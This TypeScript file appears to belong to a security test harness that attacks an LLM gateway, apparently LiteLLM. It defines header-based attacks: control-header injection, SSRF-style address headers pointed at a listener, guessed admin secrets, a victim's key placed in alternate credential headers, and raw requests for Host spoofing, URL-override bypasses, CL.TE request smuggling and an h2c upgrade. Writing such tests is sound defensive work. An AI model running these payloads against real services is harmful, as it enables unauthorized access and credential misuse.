import { type Ask, type Attack, type Scene, type Try, post } from "./attack.ts";
import { retries } from "./body-fields.ts";
import { routes, plain } from "./bodies.ts";
import { answered, answeredWithMark, any, passed, says, sent, timedOut } from "./sees.ts";

const chat = routes[0];

const asked = (scene: Scene, headers: Readonly<Record<string, string>>): Ask =>
  post(scene, chat.path, plain(scene, chat), headers);

const failing = (scene: Scene, headers: Readonly<Record<string, string>>): Ask =>
  post(scene, chat.path, { ...plain(scene, chat), seed: 1 }, headers);

/** What LiteLLM takes from headers where the client's API knows no such thing. */
const litellm: readonly Try[] = [
  {
    name: "x-litellm-timeout",
    asks: (scene) => [failing(scene, { "x-litellm-timeout": "0.00001" })],
    sees: timedOut,
  },
  {
    name: "x-litellm-stream-timeout",
    asks: (scene) => [failing(scene, { "x-litellm-stream-timeout": "0.00001" })],
    sees: timedOut,
  },
  {
    name: "x-litellm-num-retries with a time-out",
    asks: (scene) => [
      failing(scene, { "x-litellm-timeout": "0.00001", "x-litellm-num-retries": "3" }),
    ],
    sees: any(retries, says(/LiteLLM Retried: [1-9]/, "LiteLLM acted on it")),
  },
  {
    name: "x-litellm-timeout that is no number",
    asks: (scene) => [failing(scene, { "x-litellm-timeout": scene.mark })],
    sees: says(/could not convert string to float/, "LiteLLM acted on it"),
  },
  {
    name: "x-litellm-spend-logs-metadata that is no JSON",
    asks: (scene) => [failing(scene, { "x-litellm-spend-logs-metadata": scene.mark })],
    sees: says(/Expecting value|JSONDecodeError/, "LiteLLM acted on it"),
  },
  {
    name: "addresses in headers",
    asks: (scene) => [
      asked(scene, {
        "x-litellm-api-base": scene.listener,
        "x-litellm-model-api-base": scene.listener,
        "api-base": scene.listener,
        "x-pass-api-base": scene.listener,
        "langfuse-host": scene.listener,
        langfuse_host: scene.listener,
        "x-forwarded-host": new URL(scene.listener).host,
        "x-callback-url": scene.listener,
        "openai-organization": scene.listener,
      }),
    ],
    sees: any(sent, answeredWithMark),
    listens: true,
  },
];

/** The second secret of the operator's routes, guessed and left empty. */
const operator: readonly Try[] = [
  ["x-mcp-gateway-admin", "attack"],
  ["x-mcp-gateway-admin", ""],
  ["cookie", "mcp_gateway_admin=attack"],
  ["x-mcp-gateway-relay", "attack"],
].map(([name = "", value = ""]) => ({
  name: `${name}: ${value}`,
  asks: ({ authorization }) => [
    { method: "GET", path: "/key/list", headers: { ...authorization, [name]: value } },
  ],
  sees: passed,
}));

/** A credential that is not the one the edge has looked at. */
const credentials: readonly Try[] = [
  "x-litellm-api-key",
  "x-api-key",
  "api-key",
  "x-goog-api-key",
  "ocp-apim-subscription-key",
  "cookie",
].map((name) => ({
  name: `another key in ${name}`,
  asks: (scene) => {
    const other = scene.victim;
    if (other === undefined || scene.key === undefined) return [];
    const value = name === "cookie" ? `token=${other.value}` : `Bearer ${other.value}`;
    const body = { ...chat.least, model: other.models[0] ?? scene.model };
    return [post(scene, chat.path, body, { [name]: value })];
  },
  // A key that may ask the model itself shows nothing by being answered.
  sees: (facts) => (facts.scene.mayAsk ? undefined : answered(facts)),
}));

const raw = (name: string, text: (scene: Scene) => string): Try => ({
  name,
  asks: (scene) => [{ method: "GET", path: "/", headers: {}, raw: text(scene) }],
  sees: passed,
});

const authorized = ({ authorization }: Scene): string =>
  Object.entries(authorization)
    .map(([name, value]) => `${name}: ${value}\r\n`)
    .join("");

const request = (scene: Scene, line: string, host: string, more = ""): string =>
  `${line} HTTP/1.1\r\n${host}${authorized(scene)}${more}Connection: close\r\n\r\n`;

const hosts: readonly Try[] = [
  raw("a name of its own", (scene) => request(scene, "GET /v1/models", "Host: attack.example\r\n")),
  raw("an admin route in it", (scene) =>
    request(scene, "GET /key/list", `Host: ${scene.host}/v1/models?\r\n`),
  ),
  raw("two of them", (scene) =>
    request(scene, "GET /key/list", `Host: ${scene.host}\r\nHost: attack.example\r\n`),
  ),
  raw("none", (scene) => request(scene, "GET /key/list", "")),
  raw("a user in it", (scene) => request(scene, "GET /v1/models", `Host: x@${scene.host}\r\n`)),
  raw("a blank in it", (scene) =>
    request(scene, "GET /key/list", `Host: ${scene.host} /v1/models\r\n`),
  ),
  raw("another in the request line", (scene) =>
    request(scene, "GET http://attack.example/v1/models", `Host: ${scene.host}\r\n`),
  ),
  raw("HTTP/1.0 without one", (scene) => `GET /key/list HTTP/1.0\r\n${authorized(scene)}\r\n`),
  raw("x-forwarded-* and -original-*", (scene) =>
    request(
      scene,
      "GET /key/list",
      `Host: ${scene.host}\r\n`,
      "X-Forwarded-Prefix: /v1/models\r\nX-Original-URL: /v1/models\r\nX-Rewrite-URL: /v1/models\r\nX-Forwarded-For: 127.0.0.1\r\n",
    ),
  ),
  raw("another method in a header", (scene) =>
    request(scene, "GET /mcp/", `Host: ${scene.host}\r\n`, "X-HTTP-Method-Override: POST\r\n"),
  ),
  raw(
    "chunks and a length",
    (scene) =>
      `POST /v1/models HTTP/1.1\r\nHost: ${scene.host}\r\n${authorized(scene)}Content-Length: 4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\nGET /key/list HTTP/1.1\r\nHost: ${scene.host}\r\n\r\n`,
  ),
  raw("an upgrade to HTTP/2", (scene) =>
    request(
      scene,
      "GET /key/list",
      `Host: ${scene.host}\r\n`,
      "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n",
    ),
  ),
];

export const headerAttacks: readonly Attack[] = [
  { id: "headers-litellm", words: "headers that LiteLLM acts on", tries: litellm },
  { id: "headers-admin", words: "the operator's secret, guessed", tries: operator },
  { id: "headers-key", words: "a second credential", tries: credentials },
  { id: "headers-host", words: "Host and framing", tries: hosts },
];
